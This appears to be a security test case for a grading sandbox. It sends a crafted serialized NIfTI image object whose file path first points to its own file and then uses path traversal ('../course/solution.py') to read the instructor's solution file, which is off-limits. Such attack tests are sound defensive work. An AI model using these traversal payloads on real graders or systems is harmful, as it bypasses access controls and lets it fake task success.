"""Sends an image as the path of a file that it may not read: of the course, of the examiner.

uses: liar
"""
# %%
import json
import os

import nibabel as nib

world = json.loads(os.environ["ATTACK_WORLD"])
header = ["Nifti1Header", "<", nib.Nifti1Header().binaryblock.hex(), []]
nib.save(nib.Nifti1Image(np.zeros((1, 1, 1)), np.eye(4)), "own.nii")
image = lambda path: says(["&", 2], [[2, ["v.Nifti1Image", ["path", path], header, None, None], 0]])
image(os.getcwd() + "/own.nii")
# %% test
assert answer.shape == (1, 1, 1)
# %% or
import json
import os

import nibabel as nib

world = json.loads(os.environ["ATTACK_WORLD"])
header = ["Nifti1Header", "<", nib.Nifti1Header().binaryblock.hex(), []]
path = world["instructors"].replace("image.nii", "../course/solution.py")
says(["&", 2], [[2, ["v.Nifti1Image", ["path", path], header, None, None], 0]])
# %% test
assert answer.shape == (1, 1, 1)
